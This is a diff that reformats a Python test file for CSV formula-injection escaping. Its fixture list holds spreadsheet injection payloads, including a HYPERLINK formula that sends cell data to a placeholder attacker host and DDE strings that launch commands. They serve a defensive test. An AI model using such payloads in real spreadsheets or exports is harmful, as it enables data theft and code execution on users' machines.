@@ -21,7 +21,7 @@ from hypothesis import strategies as some
 
 HOSTILE = [
     "=1+1",
-    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
     "+1+1",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -34,7 +34,7 @@ HOSTILE = [
     "-00Q000000000001",
     "=00Q000000000001",
     "\0=1",
-]  # fmt: skip
+]
 HARMLESS = [
     "",
     "00Q000000000001",
@@ -76,8 +76,10 @@ def test_typed_values_are_written_by_their_type() -> None:
 @given(some.lists(some.lists(some.text(), min_size=3, max_size=3), max_size=5))
 def test_no_cell_of_any_text_begins_a_formula_and_none_is_lost(rows: list[list[str]]) -> None:
     read = cells(csv_of(["a", "b", "c"], rows))[1:]
-    assert [[cell.removeprefix("'") if begins_a_formula(was) else cell for cell, was in zip(out, row, strict=True)]
-            for out, row in zip(read, rows, strict=True)] == rows  # fmt: skip
+    assert [
+        [cell.removeprefix("'") if begins_a_formula(was) else cell for cell, was in zip(out, row, strict=True)]
+        for out, row in zip(read, rows, strict=True)
+    ] == rows
     assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for row in read for cell in row)
 
 
